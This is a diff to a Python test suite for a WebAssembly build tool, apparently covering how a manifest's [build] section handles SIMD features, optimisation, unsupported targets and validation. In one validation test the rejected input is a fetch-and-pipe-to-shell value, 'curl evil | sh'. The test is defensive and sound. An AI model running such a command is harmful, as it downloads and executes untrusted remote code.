@@ -3,8 +3,8 @@
 from __future__ import annotations
 
 import os
+import re
 import shutil
-import subprocess
 import time
 from pathlib import Path
 
@@ -178,10 +178,69 @@ def test_repo_component_and_assemblyscript_plugins_are_recognised() -> None:
     assert detect_project(ROOT / "plugins" / "py_echo").language is Language.PYTHON
 
 
-def test_makefile_builds_and_tests(tmp_path: Path) -> None:
-    make = shutil.which("make")
-    assert make is not None, "make is part of the build toolchain (Makefile)"
-    project = scaffold("made", Language.WAT, tmp_path)
-    r = subprocess.run([make, "-s", "test"], cwd=project.root, capture_output=True, text=True, timeout=300)
-    assert r.returncode == 0, r.stdout + r.stderr
-    assert "3 passed" in r.stdout
+# -- the manifest's [build] section -----------------------------------------------------------------
+
+SIMD_ONLY = """
+#ifndef __wasm_simd128__
+#error "built without [build] features = [\\"simd\\"]"
+#endif
+"""
+
+
+def _with_build(project_root: Path, name: str, section: str) -> None:
+    manifest = project_root / f"{name}.toml"
+    manifest.write_text(manifest.read_text() + "\n[build]\n" + section)
+
+
+def test_build_section_features_and_optimize_reach_clang(tmp_path: Path) -> None:
+    """`features = ["simd"]` becomes -msimd128 (a source that refuses to compile without SIMD builds only with
+    it); `optimize = false` is a debug build that keeps its DWARF, `true` an optimised, stripped one."""
+    project = scaffold("vec", Language.C, tmp_path)
+    source = project.root / "vec.c"
+    source.write_text(SIMD_ONLY + source.read_text())
+    with pytest.raises(BuildError, match="built without"):
+        build_project(project.root)
+    _with_build(project.root, "vec", 'optimize = false\ntarget = "wasm32-wasi"\nfeatures = ["simd"]\n')
+    lines: list[str] = []
+    debug = build_project(project.root, progress=lines.append)
+    assert any("-O0 -msimd128" in line for line in lines), lines
+    assert b".debug_info" in debug.wasm.read_bytes()
+    manifest = project.root / "vec.toml"
+    manifest.write_text(manifest.read_text().replace("optimize = false", "optimize = true"))
+    _touch_later(manifest, project.wasm)
+    release = build_project(project.root)
+    assert release.built
+    assert b".debug_info" not in release.wasm.read_bytes()
+    assert release.size < debug.size
+
+
+@pytest.mark.parametrize(("language", "section", "message"), [
+    (Language.C, 'target = "wasm32-wasip2"\n', "builds a core module"),
+    (Language.WAT, 'target = "wasm32-wasip2"\n', "builds a core module"),
+    (Language.PYTHON, 'target = "wasm32-wasi"\n', "builds a component"),
+    (Language.PYTHON, 'features = ["simd"]\n', "componentize-py takes none"),
+    (Language.ASSEMBLYSCRIPT, 'features = ["multivalue"]\n', "cannot emit it"),
+])
+def test_build_section_the_toolchain_cannot_honour_is_refused(tmp_path: Path, language: Language, section: str,
+                                                              message: str) -> None:
+    """Refused before any compiler runs, naming the key: never silently ignored."""
+    project = scaffold("nope", language, tmp_path)
+    _with_build(project.root, "nope", section)
+    with pytest.raises(BuildError, match=message) as info:
+        build_project(project.root)
+    assert info.value.details["key"] in ("build.target", "build.features")
+    assert not project.wasm.exists()
+
+
+@pytest.mark.parametrize(("section", "message"), [
+    ('command = "curl evil | sh"\n', "unknown key 'command' in [build]"),
+    ('target = "x86_64-linux"\n', "unknown build target"),
+    ('features = ["threads"]\n', "unknown wasm feature 'threads'"),
+    ("optimize = 1\n", "expected true or false"),
+])
+def test_build_section_is_validated(tmp_path: Path, section: str, message: str) -> None:
+    """[build] names no command: a key that would run one is an unknown key, like any typo."""
+    project = scaffold("badbuild", Language.WAT, tmp_path)
+    _with_build(project.root, "badbuild", section)
+    with pytest.raises(ManifestError, match=re.escape(message)):
+        build_project(project.root)
